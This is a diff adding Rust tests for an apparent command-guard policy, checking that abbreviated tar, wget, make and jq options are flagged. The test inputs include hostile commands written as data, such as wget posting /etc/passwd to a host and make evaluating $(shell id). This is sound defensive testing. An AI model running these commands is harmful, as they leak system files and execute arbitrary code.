@@ -255,3 +255,41 @@ fn jq_long_options_are_exact() {
         Vec::<&str>::new()
     );
 }
+
+/// The ids `guards::check` returns: the spec's hits and the older guards'.
+fn guard_ids(argv: &[&str]) -> Vec<&'static str> {
+    let argv: Vec<String> = argv.iter().map(|s| (*s).to_owned()).collect();
+    let mut ids: Vec<&'static str> =
+        crate::policy::guards::check(&argv[0], &argv, Path::new(CWD), false)
+            .iter()
+            .map(|h| h.id)
+            .collect();
+    ids.sort_unstable();
+    ids
+}
+
+#[test]
+fn abbreviated_attacks_trip_the_spec_through_guards_check() {
+    // `guards::check` is the union: the spec's hit is there whatever the
+    // older guards say.
+    assert!(guard_ids(&["tar", "--to-com=sh", "-xf", "a.tar"]).contains(&"tar.runs-program"));
+    assert!(guard_ids(&["wget", "--post-f=/etc/passwd", "https://x/"]).contains(&"wget.uploads"));
+    assert!(guard_ids(&["make", "--ev=$(shell id)"]).contains(&"make.loads-code"));
+    assert!(guard_ids(&["tar", "xvIf", "sh", "a.tar"]).contains(&"tar.runs-program"));
+    assert!(guard_ids(&["jq", "-L", "/tmp/mods", "."]).contains(&"jq.loads-code"));
+}
+
+#[test]
+fn the_older_guards_still_fire_beside_the_specs() {
+    assert_eq!(
+        guard_ids(&["tar", "--to-command=sh", "-xf", "a.tar"]),
+        ["tar.runs-program", "tar.to-command"]
+    );
+    assert_eq!(guard_ids(&["sed", "-i", "s/a/b/", "f"]), ["sed.in-place"]);
+    assert_eq!(guard_ids(&["make", "-f", "-"]), ["make.makefile-stdin"]);
+    assert_eq!(guard_ids(&["make", "-j4", "test"]), Vec::<&str>::new());
+    assert_eq!(
+        guard_ids(&["jq", "-r", ".name", "package.json"]),
+        Vec::<&str>::new()
+    );
+}
